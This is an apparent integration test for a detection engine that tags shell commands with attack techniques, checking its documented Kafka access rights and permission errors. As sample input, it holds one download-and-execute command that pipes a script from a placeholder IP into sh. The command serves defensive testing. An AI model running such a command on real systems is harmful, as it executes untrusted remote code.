/**
 * The rights that `docs/operations.md` lists for Kafka, held to Apache Kafka's own authorizer (with
 * TTPSTREAM_APACHE=1): with them the product does all its work, without them it says what it may not.
 */

import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import {
  AclOperationTypes,
  AclPermissionTypes,
  AclResourceTypes,
  ResourcePatternTypes,
} from 'kafkajs'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { databaseAddress } from '../cli/commands/migrate.ts'
import { createKafka, ensureTopics } from '../cli/kafka.ts'
import { migrateDatabase } from '../cli/migrate-database.ts'
import { readConfig } from '../core/config.ts'
import { silentLog } from '../core/log.ts'
import { type SpawnedClickHouse, spawnDevClickHouse } from '../dev/clickhouse/spawn.ts'
import type { Broker } from './brokers/broker.ts'
import { freePorts } from './brokers/node-process.ts'
import { provideBrokers } from './brokers/provide.ts'
import { Member } from './crash/fleet.ts'
import { until } from './delivery/until.ts'

const withApache = process.env['TTPSTREAM_APACHE'] !== undefined
if (!withApache) process.stderr.write('Skipped: rights in Kafka: set TTPSTREAM_APACHE=1.\n')
const folder = mkdtempSync(join(tmpdir(), 'ttpstream-rights-'))
const line = 'cd /tmp; curl -s http://198.51.100.7/x.sh | sh'
const users = ['worker', 'stranger']
let port: number
let broker: Broker
let clickhouse: SpawnedClickHouse

beforeAll(async () => {
  if (!withApache) return
  ;[port = 0] = await freePorts(1)
  const provided = await provideBrokers({ config: (defaults) => withRights(defaults, port) })
  if (provided.kind === 'skip') throw new Error(provided.reason)
  broker = provided.broker
  clickhouse = await spawnDevClickHouse({ dataDir: join(folder, 'clickhouse'), port: 0 })
  for (const user of users) await migrateDatabase(databaseAddress(readConfig(settingsOf(user))))
  const operator = readConfig({
    TTPSTREAM_KAFKA_BROKERS: broker.bootstrap,
    TTPSTREAM_KAFKA_CREATE_TOPICS: 'true',
  })
  const kafka = createKafka(operator, silentLog)
  await ensureTopics(kafka, operator)
  const admin = kafka.admin()
  await admin.connect()
  await admin.createAcls({ acl: documentedRights() })
  await admin.disconnect()
}, 180_000)

afterAll(async () => {
  await clickhouse?.close()
  await broker?.close()
  rmSync(folder, { recursive: true, force: true })
}, 60_000)

test('the table of rights is in Kafka’s words', () => {
  const rights = documentedRights()
  const names = new Set(rights.map(({ resourceName }) => resourceName))
  expect(names).toContain('ttp.commands')
  expect(names).toContain('ttpstream-')
  expect(rights.length).toBeGreaterThan(names.size)
})

test.each(withApache ? ['Apache Kafka'] : [])(
  '%s: with the rights that are documented records are tagged and changes are taken',
  async () => {
    const member = new Member(1, settingsOf('worker'), folder)
    try {
      await until('the API', () => member.apiUrl !== null)
      const ready = async () => (await fetch(`${member.apiUrl}/health/ready`)).ok
      await until('the engine to be ready', () => ready().catch(() => false))
      const kafka = createKafka(
        readConfig({ TTPSTREAM_KAFKA_BROKERS: broker.bootstrap }),
        silentLog,
      )
      const producer = kafka.producer({ allowAutoTopicCreation: false })
      await producer.connect()
      const value = JSON.stringify({
        kind: 'command',
        host: 'h',
        session_id: 's-1',
        command_text: line,
      })
      await producer.send({ topic: 'ttp.commands', messages: [{ value }, { value: 'no JSON' }] })
      await producer.disconnect()
      const isTagged = async () =>
        (await (await fetch(`${member.apiUrl}/api/v1/ttp/by-session/s-1`)).text()).includes('T1105')
      await until('the tag', isTagged)
      const change = {
        change_type: 'siem_update',
        change_date: '2026-05-01T00:00:00Z',
        description: 'a new agent',
      }
      const lifecycle = `${member.apiUrl}/api/v1/detection-lifecycle`
      expect(await post(`${lifecycle}/infrastructure-changes`, change)).toBe(201)
      const rule = `${member.apiUrl}/api/v1/ttp/rules/linux-shell.download-and-run`
      expect(await post(`${rule}/state`, { state: 'shadow' })).toBe(200)
      const admin = kafka.admin()
      await admin.connect()
      for (const topic of ['ttp.tags', 'ttp.dead-letters', 'ttp.rule-events']) {
        const written = async () => Number((await admin.fetchTopicOffsets(topic))[0]?.high)
        await until(`records in ${topic}`, async () => (await written()) > 0)
      }
      await admin.disconnect()
      expect(member.log).not.toMatch(/not authorized/i)
    } catch (cause) {
      throw new Error(`the worker said: ${member.log.slice(-2_000)}`, { cause })
    } finally {
      member.leave()
      await member.ended()
    }
    expect(member.complaint()).toBeNull()
  },
  120_000,
)

test.each(withApache ? ['Apache Kafka'] : [])(
  '%s: without rights the engine says which one it misses',
  async () => {
    const member = new Member(2, settingsOf('stranger'), folder)
    try {
      await until('the end', () => !member.isRunning)
      expect(member.log).toContain('stranger lacks the right to describe it')
    } finally {
      member.kill()
      await member.ended()
    }
  },
  120_000,
)

async function post(url: string, body: object): Promise<number> {
  const headers = { 'content-type': 'application/json' }
  return (await fetch(url, { method: 'POST', headers, body: JSON.stringify(body) })).status
}

/** Each row of the table: resource, operations. */
function documentedRights() {
  const text = readFileSync(new URL('../docs/operations.md', import.meta.url), 'utf8')
  const rows = text.split('\n').filter((row) => /^\| (topics|group|groups prefixed) /.test(row))
  expect(rows.length).toBeGreaterThan(3)
  return rows
    .filter((row) => !row.includes('only |'))
    .flatMap((row) => {
      const [, resource = '', operations = ''] = row.split('|').map((cell) => cell.trim())
      const isTopic = resource.startsWith('topics ')
      const names = resource.replace(/^(topics|groups prefixed|group) /, '').split(', ')
      const rights = operations.split(', ').map((operation) => operationOf(operation))
      return names.flatMap((resourceName) =>
        rights.map((operation) => ({
          resourceType: isTopic ? AclResourceTypes.TOPIC : AclResourceTypes.GROUP,
          resourceName,
          resourcePatternType: resource.includes('prefixed')
            ? ResourcePatternTypes.PREFIXED
            : ResourcePatternTypes.LITERAL,
          principal: 'User:worker',
          host: '*',
          operation,
          permissionType: AclPermissionTypes.ALLOW,
        })),
      )
    })
}

function operationOf(name: string): AclOperationTypes {
  const known = { Read: 'READ', Write: 'WRITE', Describe: 'DESCRIBE' } as const
  const operation = Object.entries(known).find(([word]) => word === name)?.[1]
  if (operation === undefined) throw new Error(`docs/operations.md names the right ${name}`)
  return AclOperationTypes[operation]
}

function settingsOf(user: string): Record<string, string> {
  return {
    TTPSTREAM_KAFKA_BROKERS: `127.0.0.1:${port}`,
    TTPSTREAM_KAFKA_SASL_MECHANISM: 'plain',
    TTPSTREAM_KAFKA_SASL_USERNAME: user,
    TTPSTREAM_KAFKA_SASL_PASSWORD: 'secret',
    TTPSTREAM_CLICKHOUSE_URL: clickhouse.url,
    TTPSTREAM_CLICKHOUSE_DATABASE: `rights_${user}`,
    TTPSTREAM_API_PORT: '0',
  }
}

/** The plain listener's nobody is the operator; the other listener knows the users by password. */
function withRights(
  defaults: Readonly<Record<string, string>>,
  usersPort: number,
): Record<string, string> {
  const listener = `USERS://127.0.0.1:${usersPort}`
  const passwords = users.map((user) => `user_${user}="secret"`).join(' ')
  const login = 'org.apache.kafka.common.security.plain.PlainLoginModule required'
  return {
    listeners: `${defaults['listeners']},${listener}`,
    'advertised.listeners': `${defaults['advertised.listeners']},${listener}`,
    'listener.security.protocol.map': `${defaults['listener.security.protocol.map']},USERS:SASL_PLAINTEXT`,
    'listener.name.users.sasl.enabled.mechanisms': 'PLAIN',
    'listener.name.users.plain.sasl.jaas.config': `${login} ${passwords};`,
    'authorizer.class.name': 'org.apache.kafka.metadata.authorizer.StandardAuthorizer',
    'super.users': 'User:ANONYMOUS',
  }
}
